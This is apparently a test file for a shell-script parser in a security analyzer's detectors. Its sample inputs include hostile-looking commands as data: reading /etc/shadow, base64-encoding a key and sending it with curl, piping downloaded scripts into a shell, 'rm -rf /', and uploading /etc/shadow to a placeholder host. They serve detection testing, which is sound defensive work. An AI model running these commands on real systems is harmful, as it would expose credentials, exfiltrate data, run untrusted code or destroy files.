import * as fc from "fast-check";
import { readScript } from "../../../../analyzer/detectors/shell/script.ts";

const lines = (source: string) =>
  readScript(source).map((pipeline) =>
    pipeline.map(({ name, args }) => [name, ...args].join(" ")).join(" | "),
  );

describe("readScript", () => {
  it.each([
    ["pipes and separators", "a 1 | b && c; d &", ["a 1 | b", "c", "d"]],
    ["quotes", `echo 'a | b' "c; d" e\\ f`, ["echo a | b c; d e f"]],
    ["comments and continued lines", "rm -rf \\\n  x # rm y\nls", ["rm -rf x", "ls"]],
    [
      "variables",
      'f=/etc/shadow; cat "$f" ${f}',
      [" f=/etc/shadow", "cat /etc/shadow /etc/shadow"],
    ],
    [
      "substitutions, whose commands come first",
      'x=$(cat k | base64); curl -d "$x" u',
      ["cat k | base64", " x=$(cat k | base64)", "curl -d $(cat k | base64) u"],
    ],
    [
      "backquotes and process substitution",
      "bash <(curl u) `id`",
      ["curl u", "id", "bash $(curl u) $(id)"],
    ],
    ["wrappers", "sudo -E env A=1 timeout 5s /bin/rm x", ["rm x"]],
    ["the script of sh -c", "bash -c 'curl u | sh'", ["bash -c curl u | sh", "curl u | sh"]],
    ["stream numbers", "cmd 2>&1 >/dev/null", ["cmd"]],
    ["control flow", "if true; then rm a; else rm b; fi", ["true", "rm a", "rm b"]],
  ])("reads %s", (_name, source, expected) => {
    expect(lines(source)).toEqual(expected);
  });

  it("keeps heredocs, redirects and their targets", () => {
    const [[command] = []] = readScript("cat <<'EOF' > /tmp/x\nrm -rf /\nEOF\n");
    expect(command?.redirects).toContainEqual({ operator: ">", target: "/tmp/x" });
    expect(command?.args).toEqual([]);
    const inputs = readScript("sh <<EOF\nid\nEOF\n")
      .flat()
      .map(({ input }) => input);
    expect(inputs).toContain("id\n");
  });

  it("binds the arguments of functions that are called later", () => {
    expect(lines('send() { curl -T "$2" "$1"; }\nsend https://a.example /etc/shadow')).toContain(
      "curl -T /etc/shadow https://a.example",
    );
  });

  it("never throws and ends on any text", () => {
    const piece = fc.constantFrom(
      "$(",
      ")",
      "`",
      "'",
      '"',
      "<<E",
      "\nE\n",
      "|",
      ";",
      "{",
      "}",
      "a",
      "=",
      "$x",
      "${",
      "\\",
      "<(",
      ">",
      "f()",
      " ",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        expect(readScript(pieces.join("")).every((pipeline) => pipeline.length > 0)).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});
